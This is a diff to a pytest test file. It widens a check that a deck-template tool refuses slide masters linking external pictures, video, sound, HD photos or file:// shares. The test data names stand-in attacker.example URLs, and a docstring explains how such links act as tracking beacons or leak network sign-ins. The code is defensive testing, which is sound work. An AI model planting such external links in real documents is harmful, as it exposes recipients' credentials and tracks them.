@@ -754,21 +754,39 @@ def test_a_font_that_maps_too_many_characters_is_refused(monkeypatch: pytest.Mon
 
 
 @pytest.mark.parametrize(
-    ("target", "image", "refused"),
+    ("target", "kind", "refused"),
     [
-        ("file://attacker.example/share/beacon.png", True, "links a picture from outside it"),
-        ("https://attacker.example/beacon.png", True, "links a picture from outside it"),
-        ("file://attacker.example/share/notes.docx", False, "links to file://attacker"),
-        ("https://www.example.org/policies", False, ""),  # a web page: as a slide's link may
+        ("file://attacker.example/share/beacon.png", "IMAGE", "links a picture from outside it"),
+        ("https://attacker.example/beacon.png", "IMAGE", "links a picture from outside it"),
+        ("https://attacker.example/beacon.mp4", "VIDEO", "links a video from outside it"),
+        ("https://attacker.example/beacon.wav", "AUDIO", "links a sound from outside it"),
+        ("https://attacker.example/beacon.mp4", "MEDIA", "links a video or sound from outside"),
+        (
+            "https://attacker.example/beacon.wdp",
+            "http://schemas.microsoft.com/office/2007/relationships/hdphoto",
+            "links a picture from outside it",
+        ),
+        ("file://attacker.example/share/notes.docx", "HYPERLINK", "links to file://attacker"),
+        ("https://www.example.org/policies", "HYPERLINK", ""),  # a web page, as a slide's
     ],
-    ids=["linked-file-picture", "linked-web-picture", "file-link", "web-link"],
+    ids=[
+        "linked-file-picture",
+        "linked-web-picture",
+        "linked-video",
+        "linked-sound",
+        "linked-media",
+        "linked-hd-photo",
+        "file-link",
+        "web-link",
+    ],
 )
 def test_a_deck_template_reaching_outside_itself_is_refused(
-    project: Path, tmp_path: Path, target: str, image: bool, refused: str
+    project: Path, tmp_path: Path, target: str, kind: str, refused: str
 ) -> None:
     """A template whose master linked a picture at file://attacker.example/... (or any
     address) built without a word, and every deck made on it fetched it when opened: a
-    tracking beacon, or the user's network sign-in sent to the attacker's share."""
+    tracking beacon, or the user's network sign-in sent to the attacker's share. A linked
+    video, sound or HD photo at a web address passed, as only pictures were looked for."""
     from pptx import Presentation
     from pptx.opc.constants import RELATIONSHIP_TYPE as RT
 
@@ -776,8 +794,8 @@ def test_a_deck_template_reaching_outside_itself_is_refused(
     design.parent.mkdir(exist_ok=True)
     assert CliRunner().invoke(main, ["deck-template", str(design)]).exit_code == 0
     prs = Presentation(str(design))
-    kind = RT.IMAGE if image else RT.HYPERLINK
-    prs.slide_master.part.relate_to(target, kind, is_external=True)
+    reltype = kind if kind.startswith("http") else getattr(RT, kind)
+    prs.slide_master.part.relate_to(target, reltype, is_external=True)
     prs.save(str(design))
     # the printed slides open the template as the deck does (and leave no deck holding a
     # made-up link for the run's check of every deck with PowerPoint's rules)
